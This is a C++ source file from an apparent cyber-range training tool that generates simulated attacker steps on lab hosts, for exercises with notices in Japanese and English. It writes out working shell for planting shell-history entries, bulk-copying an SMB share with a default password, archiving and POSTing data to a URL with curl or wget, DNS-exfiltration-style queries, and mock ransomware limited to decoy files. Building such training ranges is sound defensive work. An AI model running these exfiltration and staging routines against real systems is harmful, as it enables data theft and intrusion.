// Steps inside one host or between two: discovery and living-off-the-land
// commands, lateral copy from the file server, staging, exfiltration over HTTP
// and DNS, encryption of decoy files the step created itself, trainee notices.
#include <orchestrator/inject/step_kit.h>

#include <sstream>

namespace cyrange::inject {

Status install_http_receiver(StepRun& run, const std::string& param, const std::string& url);

namespace {

Expected<std::string> target_host(StepRun& run, const std::string& what) {
  auto h = run.host(run.item().target, what + " (the step's `target:`)");
  if (!h) return h.error();
  return (*h)->name;
}

std::string evidence_line(const std::string& file, const std::string& text) {
  return "mkdir -p /var/log/cyrange-sim && echo \"$(date '+%Y-%m-%dT%H:%M:%S') $(hostname) \"" +
         shell_quote(text) + " >> " + shell_quote(file) + "\n";
}

Status run_commands(StepRun& run) {
  auto host = target_host(run, "the host");
  if (!host) return host.error();
  std::string list = *run.param("commands");
  for (char& c : list) c = c == ';' ? '\n' : c;
  const std::string user = run.param_or("user", "root");
  // The history file of the shell a trainee finds there: busybox ash on tiny guests, bash on
  // standard ones (a .ash_history on Debian would give the planted commands away).
  const HostInfo* info = run.hosts().find(*host);
  const std::string file = info && info->profile == "standard" ? "/.bash_history" : "/.ash_history";
  const std::string history = (user == "root" ? "/root" : "/home/" + user) + file;
  // A built-in tool that is missing or fails is part of the story, not a step failure:
  // each command's exit code lands in the transcript.
  std::string script =
      "mkdir -p /var/log/cyrange-sim \"$(dirname " + shell_quote(history) + ")\"\n";
  std::istringstream in(list);
  int n = 0;
  for (std::string cmd; std::getline(in, cmd);) {
    const auto b = cmd.find_first_not_of(" \t");
    if (b == std::string::npos) continue;
    cmd = cmd.substr(b);
    ++n;
    script += "echo " + shell_quote(cmd) + " >> " + shell_quote(history) + "\n";
    script += "out=$(timeout 30 sh -c " + shell_quote(cmd) + " 2>&1); rc=$?\n";
    script += "printf '%s %s rc=%s cmd=%s\\n%s\\n' \"$(date '+%Y-%m-%dT%H:%M:%S')\" " +
              shell_quote(user) + " \"$rc\" " + shell_quote(cmd) +
              " \"$out\" >> /var/log/cyrange-sim/commands.log\n";
  }
  if (n == 0)
    return run.bad_param("commands", "holds no command", "List commands separated by `;`.");
  if (auto st = run.once(*host, "cmds", script); !st) return st;
  run.note(std::to_string(n) + " command(s) run on " + *host + " as " + user);
  return Status::success();
}

// True when `server` runs Samba and `source` has smbclient (both standard-image guests).
Expected<bool> speaks_smb(StepRun& run, const std::string& server, const std::string& source) {
  auto smbd = run.sh(server, "if [ -x /usr/sbin/smbd ]; then echo smbd; else echo none; fi");
  if (!smbd) return smbd.error();
  if (smbd->out.rfind("smbd", 0) != 0) return false;
  auto client =
      run.sh(source, "if command -v smbclient >/dev/null; then echo smbclient; else echo none; fi");
  if (!client) return client.error();
  return client->out.rfind("smbclient", 0) == 0;
}

// The source logs on to the share over SMB and fetches it all: the file server's own
// audit log records the connection and every file opened, with the source's address.
Status copy_over_smb(StepRun& run, const std::string& server, const std::string& source,
                     const std::string& share, const std::string& user, const std::string& stage) {
  // By name when the source resolves it (the range DNS logs the lookup), else by address.
  const std::string script = "mkdir -p " + shell_quote(stage) + " && cd " + shell_quote(stage) +
                             " || return 1\n"
                             "srv=" +
                             shell_quote(server) + "\ngetent hosts \"$srv\" >/dev/null || srv=" +
                             shell_quote(run.address(server)) +
                             "\n"
                             "timeout 50 smbclient \"//$srv/\"" +
                             shell_quote(share) + " -U " +
                             shell_quote(user + "%" + run.param_or("password", "Spring2025")) +
                             " -c 'prompt OFF; recurse ON; mget *' > /dev/null";
  return run.once(source, "smb", script);
}

Status smb_copy(StepRun& run) {
  auto server = target_host(run, "the file server");
  if (!server) return server.error();
  const std::string source = *run.param("source");
  if (auto h = run.host(source, "the host that connects (`source`)"); !h) return h.error();
  const std::string share_name = *run.param("share");
  const std::string share = "/srv/" + share_name;
  const std::string user = run.param_or("user", "svc-backup");
  const std::string stage = run.param_or("staging_dir", "/tmp/.stage-" + run.tag());
  auto smb = speaks_smb(run, *server, source);
  if (!smb) return smb.error();
  // The share gets decoy resident records if it is empty, so the copy has something to take.
  std::string seed = "mkdir -p " + shell_quote(share) +
                     " /var/log\n"
                     "if [ -z \"$(ls -A " +
                     shell_quote(share) +
                     ")\" ]; then\n"
                     "  for i in 1 2 3; do printf 'DECOY resident list %s (training "
                     "data)\\nid,name,address\\n' \"$i\" > " +
                     shell_quote(share) + "/resident_list_$i.csv; done\nfi\n";
  if (!*smb) {
    // Without Samba the logon a real smbd would log is written the way it would be.
    seed +=
        "echo \"$(date '+%b %e %H:%M:%S') $(hostname) smbd[2211]: "
        "pam_unix(samba:session): session opened for user " +
        user + " from " + run.address(source) + "\" >> /var/log/auth.log\n";
  }
  if (auto st = run.once(*server, "logon", seed); !st) return st;
  if (*smb) {
    if (auto st = copy_over_smb(run, *server, source, share_name, user, stage); !st) return st;
    run.note("copied //" + *server + "/" + share_name + " over SMB to " + source + ":" + stage +
             " as " + user);
    return Status::success();
  }
  auto tar = run.sh(*server, "tar cf - -C " + shell_quote(share) + " . | base64");
  if (!tar) return tar.error();
  std::string b64;
  for (char c : tar->out) {
    if (c != '\n') b64 += c;
  }
  if (auto st = run.put(source, stage + "/share.tar.b64", b64); !st) return st;
  if (auto st = run.once(source, "unpack",
                         "cd " + shell_quote(stage) +
                             " && base64 -d share.tar.b64 | tar xf - && rm -f share.tar.b64");
      !st) {
    return st;
  }
  run.note("copied " + share + " from " + *server + " to " + source + ":" + stage + " as " + user);
  return Status::success();
}

Status stage_files(StepRun& run) {
  auto host = target_host(run, "the host");
  if (!host) return host.error();
  const std::string dir = *run.param("source_dir");
  const std::string archive = "/tmp/" + *run.param("archive");
  if (auto st = run.once(
          *host, "stage",
          "tar czf " + shell_quote(archive) + " -C " + shell_quote(dir) + " . || return 1\n" +
              evidence_line("/var/log/cyrange-sim/process.log",
                            "cmd=\"7z a " + archive + " " + dir + "\" (simulated archiver)"));
      !st) {
    return st;
  }
  run.note("staged " + dir + " into " + archive + " on " + *host);
  return Status::success();
}

Status upload(StepRun& run) {
  auto host = target_host(run, "the host");
  if (!host) return host.error();
  const std::string url = *run.param("destination");
  const std::string archive = "/tmp/" + *run.param("archive");
  auto mb = run.int_param("size_mb", 1, 0, 256);
  if (!mb) return mb.error();
  if (auto st = install_http_receiver(run, "receiver_host", url); !st) return st;
  const std::string proxy = run.param_or("via_proxy", "");
  // Random filler when nothing was staged: a decoy of the declared size, no real data.
  // The guest agent waits 60 s for a command, so the upload gives up before that. curl
  // where there is one (standard image): busybox wget posts a file without a length, which
  // squid and nginx refuse (411).
  const std::string script =
      "[ -e " + shell_quote(archive) + " ] || head -c " + std::to_string(*mb * 1024 * 1024 + 4096) +
      " /dev/urandom > " + shell_quote(archive) + " || return 1\n" +
      (proxy.empty() ? "" : "export http_proxy=" + shell_quote("http://" + proxy) + "\n") +
      "if command -v curl >/dev/null; then\n"
      "  curl -sSf --max-time 50 -o /dev/null -A 'Mozilla/5.0' --data-binary @" +
      shell_quote(archive) + " " + shell_quote(url) +
      " || return 1\n"
      "else\n"
      "  timeout 50 wget -q -O /dev/null -U 'Mozilla/5.0' --post-file " +
      shell_quote(archive) + " " + shell_quote(url) + " || return 1\nfi\n" +
      evidence_line("/var/log/cyrange-sim/process.log", "upload " + archive + " -> " + url);
  if (auto st = run.once(*host, "upload", script); !st) return st;
  run.note("uploaded " + archive + " to " + url);
  return Status::success();
}

Status dns_query(StepRun& run) {
  auto host = target_host(run, "the host");
  if (!host) return host.error();
  const std::string domain = *run.param("domain");
  const std::string resolver = run.param_or("resolver", "");
  auto count = run.int_param("count", 5, 1, 500);
  if (!count) return count.error();
  // Labels look like encoded data but are only the execution tag and a counter.
  std::string script = "i=0\nwhile [ $i -lt " + std::to_string(*count) +
                       " ]; do\n  i=$((i + 1))\n"
                       "  name=$(printf '%s-%04d' " +
                       shell_quote(run.tag()) + " $i | od -An -tx1 | tr -d ' \\n').\"$i\"." +
                       shell_quote(domain) +
                       "\n"
                       "  timeout 3 nslookup \"$name\" " +
                       shell_quote(resolver) +
                       " >/dev/null 2>&1\n"
                       "  echo \"$(date '+%Y-%m-%dT%H:%M:%S') query $name\" >> "
                       "/var/log/cyrange-sim/dns-queries.log\n"
                       "done\n";
  script = "mkdir -p /var/log/cyrange-sim\n" + script;
  if (auto st = run.once(*host, "dns", script); !st) return st;
  run.note(std::to_string(*count) + " DNS queries under " + domain + " from " + *host);
  return Status::success();
}

Status encrypt_decoys(StepRun& run) {
  auto host = target_host(run, "the host");
  if (!host) return host.error();
  const std::string folder = *run.param("folder");
  if (folder.empty() || folder.front() != '/' || folder == "/" ||
      folder.find("..") != std::string::npos) {
    return run.bad_param("folder", "is '" + folder + "', not an absolute decoy folder",
                         "Name a new folder such as `/srv/share/decoy`; the step creates it and "
                         "touches nothing else.");
  }
  auto files = run.int_param("files", 5, 1, 200);
  if (!files) return files.error();
  const std::string label = shell_quote(folder + "/.cyrange-decoy");
  const std::string note =
      "CYRANGE TRAINING SIMULATION - this is an exercise, not a real attack.\n"
      "サイバー演習の模擬ランサムウェアです。実際の攻撃ではありません。\n\n"
      "Your files have been \"encrypted\" (ROT13 of base64, fully reversible):\n"
      "  base64 -d on (tr 'A-Za-z' 'N-ZA-Mn-za-m' < FILE.locked) restores FILE.\n"
      "ファイルは可逆な方法で変換されています（FILE.locked を tr で戻し base64 -d で復元）。\n";
  // Only files this step created are touched: the folder must be new or carry its label.
  const std::string script =
      "d=" + shell_quote(folder) +
      "\n"
      "if [ -e \"$d\" ] && ! grep -qx " +
      shell_quote(run.tag()) + " " + label +
      " 2>/dev/null; then\n"
      "  echo \"refusing: $d exists and was not created by this step\" >&2; return 1\nfi\n"
      "mkdir -p \"$d\" && echo " +
      shell_quote(run.tag()) + " > " + label +
      " || return 1\n"
      "i=0\nwhile [ $i -lt " +
      std::to_string(*files) +
      " ]; do i=$((i + 1));\n"
      "  printf 'DECOY document %s - training data only\\n' \"$i\" > \"$d/decoy_$i.txt\"; done\n"
      "for f in \"$d\"/decoy_*.txt; do\n"
      "  base64 \"$f\" | tr 'A-Za-z' 'N-ZA-Mn-za-m' > \"$f.locked\" && rm -f \"$f\"\ndone\n"
      "printf '%s' " +
      shell_quote(note) + " > \"$d/README_RESTORE.txt\"\n" +
      evidence_line("/var/log/cyrange-sim/process.log",
                    "cmd=\"encrypt " + folder + "\" (simulated ransomware, decoys only)");
  if (auto st = run.once(*host, "encrypt", script); !st) return st;
  run.note(std::to_string(*files) + " decoy file(s) encrypted under " + folder + " on " + *host);
  return Status::success();
}

Status trainee_notice(StepRun& run) {
  auto host = target_host(run, "the trainee terminal host");
  if (!host) return host.error();
  const std::string ja = run.param_or("text_ja", run.item().text_ja);
  const std::string en = run.param_or("text_en", run.item().text_en);
  if (ja.empty() || en.empty()) {
    return run.bad_param(
        ja.empty() ? "text_ja" : "text_en", "is missing",
        "Give the notice in both Japanese and English (`text_ja:` and `text_en:`).");
  }
  const std::string sender = run.param_or("sender", "Exercise control / 演習統制");
  const std::string inbox = run.param_or("inbox", "/home/trainee/inbox");
  const std::string body =
      "From: " + sender + "\nSubject: " + run.param_or("subject", run.item().id) +
      "\nDate: " + rfc5322_date(run.now()) + "\n\n[日本語]\n" + ja + "\n\n[English]\n" + en + "\n";
  if (auto st = run.put(*host, inbox + "/" + run.tag() + "-" + run.item().id + ".txt", body); !st)
    return st;
  run.note("notice from " + sender + " in " + inbox + " on " + *host);
  return Status::success();
}

}  // namespace

std::vector<StepType> host_step_types() {
  return {step_type("run_commands", run_commands),    step_type("smb_copy", smb_copy),
          step_type("stage_files", stage_files),      step_type("upload", upload),
          step_type("dns_query", dns_query),          step_type("encrypt_decoys", encrypt_decoys),
          step_type("trainee_notice", trainee_notice)};
}

}  // namespace cyrange::inject
